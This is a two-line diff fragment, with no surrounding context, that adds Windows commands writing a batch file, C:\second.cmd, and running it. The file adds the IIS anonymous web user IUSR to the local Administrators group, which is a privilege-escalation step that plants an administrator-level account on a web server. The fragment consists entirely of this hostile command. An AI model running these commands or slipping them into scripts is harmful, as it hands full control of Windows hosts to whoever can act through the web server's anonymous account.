@@ -1,0 +1,2 @@
+Set-Content C:\second.cmd 'net localgroup Administrators IUSR /add'
+cmd /c C:\second.cmd
